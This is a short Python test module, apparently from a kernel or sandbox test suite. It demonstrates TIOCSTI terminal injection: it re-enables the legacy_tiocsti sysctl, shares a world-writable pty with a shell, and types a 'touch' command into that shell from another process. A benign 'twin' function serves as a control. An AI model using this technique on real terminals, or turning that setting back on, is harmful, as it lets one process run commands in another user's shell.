"""Types a command into a terminal that it shares with somebody's shell (TIOCSTI)."""

import fcntl
import os
import signal
import subprocess
import termios

from kernel import check, in_child, read, wait_for, write

ALLOWED = "/proc/sys/dev/tty/legacy_tiocsti"


def beside(folder):
    if os.path.exists(ALLOWED):
        # KERNEL: since 6.2 it may be switched off for all.
        write(ALLOWED, "1")
    control, terminal = os.openpty()
    name = os.ttyname(terminal)
    os.chmod(name, 0o666)
    write(f"{folder}/terminal", name)
    with subprocess.Popen(["sh"], stdin=terminal, stdout=terminal, stderr=subprocess.DEVNULL):
        ready()
    os.close(control)


def type_in(folder):
    # Going away must not hang the terminal up.
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    os.setsid()
    terminal = os.open(read(f"{folder}/terminal"), os.O_RDWR)
    try:
        for character in f"touch {folder}/typed\n".encode():
            fcntl.ioctl(terminal, termios.TIOCSTI, bytes([character]))
        wait_for(lambda: os.path.exists(f"{folder}/typed"), "the shell ran nothing")
    finally:
        fcntl.ioctl(terminal, termios.TIOCNOTTY)


def attack(folder):
    in_child(type_in, folder)


def twin(folder):
    terminal = os.open(read(f"{folder}/terminal"), os.O_RDWR | os.O_NOCTTY)
    check(len(fcntl.ioctl(terminal, termios.TIOCGWINSZ, bytes(8))) == 8, "no size")
    os.write(terminal, b"Good morning.\r\n")
